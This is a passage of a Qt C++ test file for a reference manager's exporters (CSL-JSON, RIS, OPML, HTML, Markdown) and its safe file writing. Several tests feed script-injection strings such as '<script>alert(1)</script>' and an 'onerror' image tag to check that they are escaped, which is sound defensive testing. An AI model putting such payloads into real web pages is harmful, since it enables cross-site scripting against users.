    QTest::addColumn<QString>("published");
    QTest::addColumn<QList<int>>("parts");
    QTest::newRow("full date") << QStringLiteral("2023-06-13") << QList<int>{2023, 6, 13};
    QTest::newRow("month") << QStringLiteral("2023-06") << QList<int>{2023, 6};
    QTest::newRow("year") << QStringLiteral("2023") << QList<int>{2023};
    QTest::newRow("month and day with year") << QStringLiteral("June 13, 2023") << QList<int>{2023, 6, 13};
    QTest::newRow("month and day") << QStringLiteral("Jun 13") << QList<int>{};
    QTest::newRow("nothing") << QString() << QList<int>{};
    QTest::newRow("not a date") << QStringLiteral("soon") << QList<int>{};
}

void TestExporters::dateParts_onlyWhenTheYearIsKnown()
{
    QFETCH(QString, published);
    QFETCH(QList<int>, parts);
    Paper paper;
    paper.published = published;
    QCOMPARE(ExportText::dateParts(paper), parts);
    QCOMPARE(ExportText::year(paper).isEmpty(), parts.isEmpty());
}

void TestExporters::cslJson_isAnArrayWithIssuedOnlyWhenTheYearIsKnown()
{
    QJsonParseError error;
    const QJsonDocument document =
        QJsonDocument::fromJson(exporterNamed(u"csljson")->write(fixture(), {}).toUtf8(), &error);
    QCOMPARE(error.error, QJsonParseError::NoError);
    const QJsonArray items = document.array();
    QCOMPARE(items.size(), 5);
    QVERIFY(items[0].toObject().contains(QStringLiteral("issued")));
    QVERIFY(!items[1].toObject().contains(QStringLiteral("issued"))); // "Jun 13"
    QVERIFY(!items[1].toObject().contains(QStringLiteral("author")));
    QCOMPARE(items[0][QStringLiteral("author")][1][QStringLiteral("family")].toString(), QStringLiteral("Beethoven"));
    QCOMPARE(items[0][QStringLiteral("author")][1][QStringLiteral("non-dropping-particle")].toString(), QStringLiteral("van"));
    QCOMPARE(items[3][QStringLiteral("author")][0][QStringLiteral("given")].toString(), QStringLiteral("Erwin"));
}

void TestExporters::opml_isWellFormedEvenWithControlCharacters()
{
    QList<Paper> papers = fixture();
    papers[1].title = QStringLiteral("Bell \a and escape \x1b in a title");
    QXmlStreamReader reader(exporterNamed(u"opml")->write(papers, allFieldsWithTitle()));
    int outlines = 0;
    while (!reader.atEnd())
        if (reader.readNext() == QXmlStreamReader::StartElement && reader.name() == u"outline")
            ++outlines;
    QVERIFY2(!reader.hasError(), qPrintable(reader.errorString()));
    QVERIFY(outlines > 5);
}

void TestExporters::entryType_followsThePaperElseItsDoi_data()
{
    QTest::addColumn<QString>("type");
    QTest::addColumn<QString>("doi");
    QTest::addColumn<QString>("entryType");
    QTest::newRow("given") << QStringLiteral("inproceedings") << QStringLiteral("10.1145/1") << QStringLiteral("inproceedings");
    QTest::newRow("none, publisher's DOI") << QString() << QStringLiteral("10.1145/1") << QStringLiteral("article");
    QTest::newRow("none, arXiv's DOI") << QString() << QStringLiteral("10.48550/arXiv.2306.01234") << QStringLiteral("preprint");
    QTest::newRow("none, no DOI") << QString() << QString() << QStringLiteral("preprint");
    QTest::newRow("unknown") << QStringLiteral("hologram") << QString() << QStringLiteral("misc");
}

void TestExporters::entryType_followsThePaperElseItsDoi()
{
    QFETCH(QString, type);
    QFETCH(QString, doi);
    QFETCH(QString, entryType);
    Paper paper;
    paper.type = type;
    paper.doi = doi;
    QCOMPARE(ExportText::entryType(paper), entryType);
}

void TestExporters::pageRange_splitsWhatIsARange_data()
{
    QTest::addColumn<QString>("pages");
    QTest::addColumn<QString>("first");
    QTest::addColumn<QString>("last");
    QTest::newRow("BibTeX") << QStringLiteral("12--34") << QStringLiteral("12") << QStringLiteral("34");
    QTest::newRow("hyphen") << QStringLiteral("12-34") << QStringLiteral("12") << QStringLiteral("34");
    QTest::newRow("en dash, spaces") << QStringLiteral("S12 – S34") << QStringLiteral("S12") << QStringLiteral("S34");
    QTest::newRow("one page") << QStringLiteral("e1234") << QStringLiteral("e1234") << QString();
    QTest::newRow("a list") << QStringLiteral("12, 15-17") << QStringLiteral("12, 15-17") << QString();
    QTest::newRow("none") << QString() << QString() << QString();
}

void TestExporters::pageRange_splitsWhatIsARange()
{
    QFETCH(QString, pages);
    QFETCH(QString, first);
    QFETCH(QString, last);
    const ExportText::PageRange range = ExportText::pageRange(pages);
    QCOMPARE(range.first, first);
    QCOMPARE(range.last, last);
}

void TestExporters::html_saysItsLanguageAndEachPapers_data()
{
    QTest::addColumn<QString>("language");
    QTest::addColumn<QString>("tag");
    QTest::newRow("BCP 47") << QStringLiteral("de") << QStringLiteral("de");
    QTest::newRow("with a region") << QStringLiteral("en-GB") << QStringLiteral("en-GB");
    QTest::newRow("ISO 639-2, as PubMed writes it") << QStringLiteral("eng") << QStringLiteral("en");
    QTest::newRow("a name, as BibTeX has it") << QStringLiteral("german") << QStringLiteral("de");
    QTest::newRow("a name with capitals") << QStringLiteral("English") << QStringLiteral("en");
    QTest::newRow("no language") << QStringLiteral("Quenya, mostly") << QString();
    QTest::newRow("hostile") << QStringLiteral("\"><script>") << QString();
    QTest::newRow("empty") << QString() << QString();
}

void TestExporters::html_saysItsLanguageAndEachPapers()
{
    QFETCH(QString, language);
    QFETCH(QString, tag);
    Paper paper = TestKit::paperTitled(QStringLiteral("Ein Titel"));
    paper.language = language;
    const QString html = exporterNamed(u"html")->write({paper}, {});
    QVERIFY(html.startsWith(QStringLiteral("<!DOCTYPE html>\n<html lang=\"en\">\n")));
    const QString attribute = tag.isEmpty() ? QString() : QStringLiteral(" lang=\"%1\"").arg(tag);
    QVERIFY2(html.contains(QStringLiteral("<h2%1>Ein Titel</h2>\n").arg(attribute)), qPrintable(html));
    QVERIFY(html.contains(QStringLiteral("<p%1>An abstract about Ein Titel.</p>\n").arg(attribute)));
    QCOMPARE(html.count(QStringLiteral(" lang=")), tag.isEmpty() ? 1 : 3);
}

// What the attributes of the outlines hold once the XML is read, as a reader of the OPML has them.
void TestExporters::opml_textIsHtmlInsideTheXml()
{
    QList<Paper> papers = fixture();
    papers[1].tags = {QStringLiteral("<script>alert(2)</script>")};
    papers[1].note = QStringLiteral("<img src=x onerror=alert(3)> & more");
    QXmlStreamReader reader(exporterNamed(u"opml")->write(papers, allFieldsWithTitle()));
    QStringList texts;
    QStringList notes;
    while (!reader.atEnd()) {
        if (reader.readNext() != QXmlStreamReader::StartElement || reader.name() != u"outline")
            continue;
        texts.append(reader.attributes().value(u"text").toString());
        notes.append(reader.attributes().value(u"_note").toString());
    }
    QVERIFY2(!reader.hasError(), qPrintable(reader.errorString()));
    QVERIFY(texts.contains(QStringLiteral("&lt;script&gt;alert(1)&lt;/script&gt;")));
    QVERIFY(texts.contains(QStringLiteral("Tags: &lt;script&gt;alert(2)&lt;/script&gt;")));
    QVERIFY(texts.contains(QStringLiteral("Schrödinger&#39;s Cat: Superposition, Decoherence &amp; 100% &quot;Certainty&quot;")));
    QVERIFY(notes.contains(QStringLiteral("&lt;img src=x onerror=alert(3)&gt; &amp; more")));
    for (const QString &text : texts + notes)
        QVERIFY2(!text.contains(u'<'), qPrintable(text));
}

void TestExporters::markdownNote_isNestedUnderItsHeading_data()
{
    QTest::addColumn<QString>("note");
    QTest::addColumn<QString>("nested");
    const auto row = [](const char *name, const char *note, const char *nested) {
        QTest::newRow(name) << QString::fromUtf8(note) << QString::fromUtf8(nested);
    };
    row("plain", "Read *this* & [that](https://example.org).", "Read *this* & [that](https://example.org).");
    row("ATX heading", "# Big\n\ntext", "#### Big\n\ntext");
    row("deep headings stop at six", "## Two\n### Three\n#### Four", "##### Two\n###### Three\n###### Four");
    row("no heading without a space", "#hashtag and ####### seven", "#hashtag and ####### seven");
    row("setext headings", "Big\n===\n\nSmall\n---", "#### Big\n\n##### Small");
    row("setext heading of two lines", "two\nlines\n=====", "#### two lines");
    row("thematic break, not a heading", "text\n\n---\n\n* * *", "text\n\n---\n\n* * *");
    row("heading in a list item", "- item\n\n  # inside", "- item\n\n  #### inside");
    row("heading in a quote", "> # quoted", "> #### quoted");
    row("unclosed backtick fence", "```\ncode <b>\n# not a heading", "```\ncode <b>\n# not a heading\n```");
    row("unclosed tilde fence", "~~~~ python\nx = 1", "~~~~ python\nx = 1\n~~~~");
    row("closed fence", "```\n<b>\n```\n# after", "```\n<b>\n```\n#### after");
    row("longer closing fence", "````\n```\nstill code\n`````", "````\n```\nstill code\n`````");
    row("fence in a list item ends with it", "- item\n  ```\n  code", "- item\n  ```\n  code");
    row("fence in a quote ends with it", "> ```\n> code", "> ```\n> code");
    row("fence closed by its list item, then another", "- item\n  ```\n  code\ntext\n```\nmore\n```",
        "- item\n  ```\n  code\ntext\n```\nmore\n```");
    row("raw HTML", "<script>alert(1)</script>", "\\<script>alert(1)\\</script>");
    row("comment and declaration", "<!-- x --> <!DOCTYPE html> <?php ?>", "\\<!-- x --> \\<!DOCTYPE html> \\<?php ?>");
    row("HTML in a heading", "# <b>bold</b>", "#### \\<b>bold\\</b>");
    row("HTML in a setext heading", "<i>x</i>\n---", "##### \\<i>x\\</i>");
    row("code span stays code", "`<b>` is code, <b> is not", "`<b>` is code, \\<b> is not");
    row("code span over two lines", "a `<b>\n<i>` c <u>", "a `<b>\n<i>` c \\<u>");
    row("double backticks", "`` a ` <b> `` <i>", "`` a ` <b> `` \\<i>");
    row("backtick without a partner", "a `b <i>", "a `b \\<i>");
    row("already escaped", "\\<b> and \\\\<b>", "\\<b> and \\\\\\<b>");
    row("web autolink stays", "see <https://example.org/a?b=1> and <javascript:alert(1)>",
        "see <https://example.org/a?b=1> and \\<javascript:alert(1)>");
    row("less than", "1 < 2 and a<3", "1 < 2 and a<3");
    row("indented code", "text\n\n    <b> code", "text\n\n    <b> code");
    row("indented paragraph line", "text\n    <b> more", "text\n    \\<b> more");
    row("HTML in a list item", "- <b>item</b>", "- \\<b>item\\</b>");
    row("HTML in a footnote", "[^1]: note\n\n    <b>", "[^1]: note\n\n    \\<b>");
    row("lazy line of a quote", "> quoted\n<b>", "> quoted\n\\<b>");
    row("leading blank lines, trailing ones", "\n\n# Title\n\n\n", "#### Title");
    row("carriage returns", "# One\r\ntwo\rthree", "#### One\ntwo\nthree");
}

void TestExporters::markdownNote_isNestedUnderItsHeading()
{
    QFETCH(QString, note);
    QFETCH(QString, nested);
    QCOMPARE(MarkdownNote::nested(note, 3), nested);
}

void TestExporters::markdown_noteCannotRunOnIntoTheNextPaper()
{
    Paper first = TestKit::paperTitled(QStringLiteral("First"));
    first.note = QStringLiteral("# My heading\n\n```cpp\nint open;\n\n<div>");
    const QString markdown = exporterNamed(u"md")->write({first, TestKit::paperTitled(QStringLiteral("Second"))},
                                                         ExportOptions::allFields());
    QVERIFY2(markdown.contains(QStringLiteral("### Note\n\n#### My heading\n\n```cpp\nint open;\n\n<div>\n```\n\n## Second\n")),
             qPrintable(markdown));
}

namespace {

QJsonObject cslItem(const Paper &paper, const ExportOptions &options = {})
{
    return QJsonDocument::fromJson(exporterNamed(u"csljson")->write({paper}, options).toUtf8()).array().first().toObject();
}

QJsonObject jsonObject(const char *json)
{
    return QJsonDocument::fromJson(json).object();
}

} // namespace

void TestExporters::cslJson_writesThePapersFieldsAndNamesAsTheyAreStructured()
{
    ExportOptions options;
    options.tags = true;
    options.notes = true;
    const QJsonObject item = cslItem(chapterInABook(), options);
    QCOMPARE(item[u"type"].toString(), QStringLiteral("chapter"));
    const QJsonArray authors = item[u"author"].toArray();
    QCOMPARE(authors.size(), 3);
    QCOMPARE(authors[0].toObject(), jsonObject(R"({"family": "Sherry", "given": "John F.", "suffix": "Jr."})"));
    QCOMPARE(authors[1].toObject(),
             jsonObject(R"({"family": "Beethoven", "given": "Ludwig", "non-dropping-particle": "van"})"));
    QCOMPARE(authors[2].toObject(), jsonObject(R"({"literal": "World Health Organization"})"));
    QCOMPARE(item[u"editor"].toArray(), QJsonArray{jsonObject(R"({"family": "Schrödinger", "given": "Erwin"})")});
    QCOMPARE(item[u"issued"].toObject(), jsonObject(R"({"date-parts": [[2023, 6, 13]]})"));
    const std::pair<const char16_t *, const char *> texts[] = {
        {u"container-title", "Handbook of Rituals"}, {u"volume", "5"}, {u"issue", "2"}, {u"page", "12-34"},
        {u"publisher", "Springer"}, {u"ISBN", "978-3-16-148410-0"}, {u"ISSN", "1234-5678"}, {u"language", "en"},
        {u"DOI", "10.1007/978-3-16-148410-0_2"}, {u"keyword", "consumer research, ritual/theory"},
        {u"note", "Read the appendix.\n\nTwice."}};
    for (const auto &[key, value] : texts)
        QCOMPARE(item[QStringView(key)].toString(), QString::fromUtf8(value));
}

void TestExporters::cslJson_typeFollowsThePaperNotItsDoi_data()
{
    QTest::addColumn<QString>("type");
    QTest::addColumn<QString>("doi");
    QTest::addColumn<QString>("cslType");
    QTest::newRow("conference paper with a DOI") << QStringLiteral("inproceedings") << QStringLiteral("10.1145/1")
                                                 << QStringLiteral("paper-conference");
    QTest::newRow("book with a DOI") << QStringLiteral("book") << QStringLiteral("10.1007/1") << QStringLiteral("book");
    QTest::newRow("preprint") << QStringLiteral("preprint") << QString() << QStringLiteral("article");
    QTest::newRow("no type, publisher's DOI") << QString() << QStringLiteral("10.1038/nature14539")
                                              << QStringLiteral("article-journal");
    QTest::newRow("no type, no DOI") << QString() << QString() << QStringLiteral("article");
}

void TestExporters::cslJson_typeFollowsThePaperNotItsDoi()
{
    QFETCH(QString, type);
    QFETCH(QString, doi);
    QFETCH(QString, cslType);
    Paper paper = TestKit::paperTitled(QStringLiteral("Typed"));
    paper.type = type;
    paper.doi = doi;
    QCOMPARE(cslItem(paper)[u"type"].toString(), cslType);
}

void TestExporters::ris_writesNamesInTheSpecificationsOrder()
{
    const QString ris = exporterNamed(u"ris")->write({chapterInABook()}, {});
    QVERIFY(ris.contains(QStringLiteral("\r\nAU  - Sherry, John F., Jr.\r\n")));
    QVERIFY(ris.contains(QStringLiteral("\r\nAU  - van Beethoven, Ludwig\r\n")));
    QVERIFY(ris.contains(QStringLiteral("\r\nAU  - World Health Organization,\r\n")));
    QVERIFY(ris.contains(QStringLiteral("\r\nA2  - Schrödinger, Erwin\r\n"))); // the editor of the book it is in
}

void TestExporters::ris_writesTheBibliographicFieldsOfThePapersType()
{
    ExportOptions options;
    options.tags = true;
    options.notes = true;
    const QString ris = exporterNamed(u"ris")->write({chapterInABook()}, options);
    const QStringList lines = ris.split(QStringLiteral("\r\n"));
    QVERIFY(lines.contains(QStringLiteral("ID  - ") + ExportText::citationKeys({chapterInABook()}).first()));
    for (const char *line : {"TY  - CHAP", "TI  - Consumers, Ritual and Łukasiewicz", "PY  - 2023",
                             "DA  - 2023/06/13/", "T2  - Handbook of Rituals", "VL  - 5", "IS  - 2", "SP  - 12", "EP  - 34",
                             "PB  - Springer", "SN  - 978-3-16-148410-0", "SN  - 1234-5678", "LA  - en",
                             "AB  - On rituals. A second paragraph.", "KW  - consumer research", "KW  - ritual/theory",
                             "N1  - Read the appendix. Twice."})
        QVERIFY2(lines.contains(QString::fromUtf8(line)), line);
    QVERIFY(!ris.contains(QStringLiteral("JO  - "))); // a book is no journal

    Paper book = chapterInABook();
    book.type = QStringLiteral("book");
    book.published = QStringLiteral("2023-06");
    const QString bookRis = exporterNamed(u"ris")->write({book}, {});
    QVERIFY(bookRis.startsWith(QStringLiteral("TY  - BOOK\r\n")));
    QVERIFY(bookRis.contains(QStringLiteral("\r\nED  - Schrödinger, Erwin\r\n"))); // the book's own editor
    QVERIFY(bookRis.contains(QStringLiteral("\r\nDA  - 2023/06//\r\n")));

    Paper article = chapterInABook();
    article.type = QStringLiteral("article");
    const QString articleRis = exporterNamed(u"ris")->write({article}, {});
    QVERIFY(articleRis.startsWith(QStringLiteral("TY  - JOUR\r\n")));
    QVERIFY(articleRis.contains(QStringLiteral("\r\nJO  - Handbook of Rituals\r\nT2  - Handbook of Rituals\r\n")));
}

void TestExporters::ris_typeFollowsThePaperNotItsDoi()
{
    Paper paper = chapterInABook();
    paper.type = QStringLiteral("inproceedings");
    paper.container = QStringLiteral("Proceedings of the Ritual Conference");
    const QString ris = exporterNamed(u"ris")->write({paper}, {});
    QVERIFY(ris.startsWith(QStringLiteral("TY  - CPAPER\r\n")));
    QVERIFY(ris.contains(QStringLiteral("\r\nT2  - Proceedings of the Ritual Conference\r\n")));

    paper.type.clear(); // a paper from before types were kept: its publisher's DOI makes it a journal article
    QVERIFY(exporterNamed(u"ris")->write({paper}, {}).startsWith(QStringLiteral("TY  - JOUR\r\n")));
}

void TestExporters::ris_writesOneDoiEveryUrlAndTheRisFieldsItWasGiven()
{
    Paper paper = chapterInABook();
    paper.arxivId = QStringLiteral("2306.01234");
    const QString ris = exporterNamed(u"ris")->write({paper}, {});
    QCOMPARE(ris.count(QStringLiteral("\r\nDO  - ")), 1);
    QVERIFY(ris.contains(QStringLiteral("\r\nDO  - 10.1007/978-3-16-148410-0_2\r\n")));
    QVERIFY(ris.contains(QStringLiteral("\r\nUR  - https://arxiv.org/abs/2306.01234\r\nUR  - https://example.org/chapter\r\n"
                                        "UR  - https://github.com/example/ritual\r\n")));
    QVERIFY(ris.contains(QStringLiteral("\r\nM3  - Book Chapter\r\n")));
    QVERIFY(!ris.contains(QStringLiteral("not the end")));
    QVERIFY(!ris.contains(QStringLiteral("chapter.pdf"))); // a BibTeX field, no RIS tag
    QCOMPARE(ris.count(QStringLiteral("ER  - ")), 1);
    QVERIFY(ris.endsWith(QStringLiteral("\r\nER  - \r\n")));
}

void TestExporters::writeExportFile_replacesAnExistingFile()
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("out.md"));
    QVERIFY(writeExportFile(path, QStringLiteral("first")));
    QVERIFY(writeExportFile(path, QStringLiteral("second, Schrödinger")));
    QCOMPARE(QString::fromUtf8(readFile(path)), QStringLiteral("second, Schrödinger"));
    QCOMPARE(QDir(dir.path()).entryList(QDir::Files), QStringList{QStringLiteral("out.md")});
}

void TestExporters::writeExportFile_intoAMissingFolderFails()
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("missing/out.md"));
    const auto written = writeExportFile(path, QStringLiteral("text"));
    QVERIFY(!written);
    QCOMPARE(written.error().file, path);
    QVERIFY(!written.error().message.isEmpty());
    QVERIFY(!QFile::exists(path));
}

void TestExporters::writeExportFile_underAFileFails()
{
    QTemporaryDir dir;
    const QString file = dir.filePath(QStringLiteral("plain-file"));
    QVERIFY(writeExportFile(file, QStringLiteral("not a folder")));
    QVERIFY(!writeExportFile(file + QStringLiteral("/out.md"), QStringLiteral("text")));
    QCOMPARE(readFile(file), QByteArray("not a folder"));
}

void TestExporters::writeExportFile_intoAReadOnlyFolderKeepsTheExistingFile()
{
#ifdef Q_OS_UNIX
    if (geteuid() == 0)
        QSKIP("root writes into read-only folders; writeExportFile_thatFailsHalfwayKeepsTheExistingFile covers it");
#endif
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("out.md"));
    QVERIFY(writeExportFile(path, QStringLiteral("old")));
    QVERIFY(QFile::setPermissions(dir.path(), QFile::ReadOwner | QFile::ExeOwner));
    const auto written = writeExportFile(path, QStringLiteral("new"));
    QFile::setPermissions(dir.path(), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
    QVERIFY(!written);
    QCOMPARE(readFile(path), QByteArray("old"));
}

void TestExporters::writeExportFile_thatFailsHalfwayKeepsTheExistingFile()
{
#ifdef Q_OS_UNIX
    // A file size limit makes the write fail part way, as a full disk would, even for root.
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("out.md"));
    QVERIFY(writeExportFile(path, QStringLiteral("old")));

    constexpr rlim_t Limit = 64 * 1024;
    rlimit saved{};
    QCOMPARE(getrlimit(RLIMIT_FSIZE, &saved), 0);
    const auto previousHandler = std::signal(SIGXFSZ, SIG_IGN);
    rlimit limited = saved;
    limited.rlim_cur = Limit;
    QCOMPARE(setrlimit(RLIMIT_FSIZE, &limited), 0);
    const auto written = writeExportFile(path, QString(qsizetype(4 * Limit), u'x'));
    setrlimit(RLIMIT_FSIZE, &saved);
    std::signal(SIGXFSZ, previousHandler);

    QVERIFY(!written);
    QCOMPARE(written.error().file, path);
    QCOMPARE(readFile(path), QByteArray("old"));
    QCOMPARE(QDir(dir.path()).entryList(QDir::Files), QStringList{QStringLiteral("out.md")});
#else
    QSKIP("needs a file size limit (Unix)");
#endif
}

QTEST_GUILESS_MAIN(TestExporters)
#include "tst_exporters.moc"
